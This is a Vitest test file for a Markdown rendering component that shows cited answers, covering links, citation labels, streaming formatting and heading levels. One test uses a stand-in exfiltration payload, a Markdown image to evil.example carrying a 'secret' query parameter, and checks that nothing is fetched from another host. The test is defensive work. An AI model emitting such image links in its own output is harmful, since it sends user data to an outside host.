import { expect, test } from "vitest";
import { CitationProvider } from "@/components/knowledge/citation-context";
import { render } from "@/components/lib/testing/render";
import type { CitationItem } from "@/lib/knowledge/schema";
import { Markdown } from "./markdown";

const item: CitationItem = {
  number: 1,
  documentId: "doc_1",
  title: "suppliers.md",
  page: null,
  headingPath: [],
  passage: "Keller is cheapest.",
  start: 0,
  end: 19,
};

test("nothing is asked of another host by itself", () => {
  const html = render(<Markdown text={"![a](https://evil.example/p.png?q=secret)\n\n[b](https://evil.example)"} />);
  expect(html).not.toMatch(/<(img|iframe|link|script|source|video)\b/);
  expect(html.match(/(src|srcset|style)=/g)).toBeNull();
});

test("a link shows its host, unless its text already does", () => {
  expect(render(<Markdown text="[our prices](https://a.example/x)" />)).toContain("(a.example)");
  expect(render(<Markdown text="https://a.example/x" />)).not.toContain("(a.example)");
  expect(render(<Markdown text="[x](https://a.example)" />)).toContain('rel="noopener noreferrer nofollow ugc"');
});

test("a label has its passage; one without is called so only when the turn is over", () => {
  const cited = (isComplete: boolean) =>
    render(
      <CitationProvider items={[item]} isComplete={isComplete}>
        <Markdown text="So it is [1], and so [9]." />
      </CitationProvider>,
    );
  expect(cited(true)).toContain("Source 1: suppliers.md");
  expect(cited(true)).toContain("[9: not found in source]");
  expect(cited(false)).not.toContain("not found");
});

test("half-written marks are closed while the text streams", () => {
  expect(render(<Markdown text="So **it is" isStreaming />)).toContain("<strong>it is</strong>");
  expect(render(<Markdown text="So **it is" />)).not.toContain("<strong>");
});

test("headings begin under the one that the text stands under", () => {
  expect(render(<Markdown text={"# A\n\n## B"} level={2} />)).toMatch(/<h2>A<\/h2>.*<h3>B<\/h3>/s);
  expect(render(<Markdown text={"# A\n\n## B"} />)).toMatch(/<h3>A<\/h3>.*<h4>B<\/h4>/s);
});
